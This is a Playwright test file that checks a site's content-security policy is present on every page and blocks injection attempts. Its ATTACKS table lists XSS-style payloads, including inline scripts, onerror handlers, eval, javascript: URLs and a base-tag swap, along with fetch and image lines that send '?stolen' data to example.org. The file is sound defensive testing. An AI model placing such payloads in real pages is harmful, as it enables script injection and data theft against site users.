"""The content-security policy: on every page, and it holds when something tries to get past it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from browser.storage import KEEPS_NOTHING
from guide_site.serve.server import SiteServer
from guide_site.site.policy import policy

pytestmark = pytest.mark.browser

ATTACKS = {
    "an inline script": """
        document.body.append(Object.assign(document.createElement('script'), { text: 'window.broken = 1' }))
    """,
    "an event handler in HTML": """
        document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.broken = 1">')
    """,
    "text run as a program": "setTimeout('window.broken = 1')",
    "text evaluated": "setTimeout(() => eval('window.broken = 1'))",
    "text made a function": "setTimeout(() => new Function('window.broken = 1')())",
    "a module made of text": "import('data:text/javascript,window.broken = 1').catch(() => {})",
    "a worker made of text": """
        try { new Worker(URL.createObjectURL(new Blob(['onmessage = 0']))) } catch {}
    """,
    "a script in an address": "location.href = 'javascript:window.broken = 1'",
    "a plug-in": """
        document.body.insertAdjacentHTML('beforeend', '<object data="data:text/html,x"></object>')
    """,
    "another base for every address": """
        document.head.prepend(Object.assign(document.createElement('base'), { href: '/elsewhere/' }))
    """,
    "a style in HTML": """
        document.body.insertAdjacentHTML('beforeend', '<p style="background: red">')
    """,
    "a request to another server": "fetch('https://example.org/?stolen').catch(() => {})",
    "a picture from another server": """
        document.body.append(Object.assign(new Image(), { src: 'https://example.org/?stolen' }))
    """,
}


def test_every_page_has_a_policy_before_anything_it_governs(site: Path) -> None:
    for page in site.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        place = html.find('<meta http-equiv="Content-Security-Policy"')
        assert 0 < place < min(html.find(part) for part in ("<script", "<link") if part in html), page


def test_a_policy_lets_in_only_the_inline_scripts_the_page_was_built_with() -> None:
    page = "<script>one()</script><script src='two.js'></script><script type='application/json'>{}</script>"
    assert policy(page).count("sha256-") == 1
    assert "unsafe" not in policy(page)


@pytest.fixture(scope="module")
def victim(chromium: Browser, server: SiteServer) -> Iterator[Page]:
    """A page that nobody else watches: what is tried here is meant to be wrong."""
    context = chromium.new_context(base_url=server.url)
    context.add_init_script(KEEPS_NOTHING)
    yield context.new_page()
    context.close()


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.usefixtures("without_python")
def test_an_attack_does_not_get_past_the_policy(victim: Page, attack: str) -> None:
    victim.goto("what-to-write/")
    stopped = victim.evaluate(
        f"""async () => {{
          const stopped = new Promise((resolve) => {{
            addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), {{ once: true }});
            setTimeout(() => resolve(''), 5000);
          }});
          {attack};
          return stopped;
        }}"""
    )
    assert stopped
    assert victim.evaluate("window.broken") is None
